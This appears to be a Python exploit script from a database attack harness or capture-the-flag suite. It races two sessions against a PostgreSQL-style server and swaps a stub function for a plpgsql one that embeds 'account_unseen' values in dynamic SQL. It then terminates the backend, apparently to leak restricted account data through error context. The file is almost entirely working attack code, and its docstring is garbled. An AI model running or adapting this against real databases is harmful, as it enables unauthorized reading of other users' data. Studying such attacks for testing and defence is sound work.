"""Has its session ended while swapped in code runs a text with a value: its context says it."""

import time

from attacks.frames import ask, hear, query
from attacks.talking import Server

WANTS = "read"
TEXT = (
    b"CREATE OR REPLACE FUNCTION look(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN"
    b" EXECUTE 'SELECT pg_sleep(20) /* ' || account_unseen($1) || ' */'; RETURN $1; END $$"
)


def attack(server: Server) -> bytes:
    with server.login() as client, server.login() as other:
        ask(
            client,
            query(b"CREATE FUNCTION look(int) RETURNS int LANGUAGE sql AS 'SELECT 1'"),
        )
        ask(client, query(b"CREATE TABLE place AS SELECT pg_backend_pid() AS pid"))
        ask(other, query(b"BEGIN"))
        ask(other, query(b"LOCK TABLE mallory_own"))
        ask(other, query(TEXT))
        client.send(query(b"SELECT look(id) FROM mallory_own"))
        time.sleep(1)
        ask(other, query(b"COMMIT"))
        time.sleep(2)
        ask(other, query(b"SELECT pg_terminate_backend(pid) FROM place"))
        return hear(client)
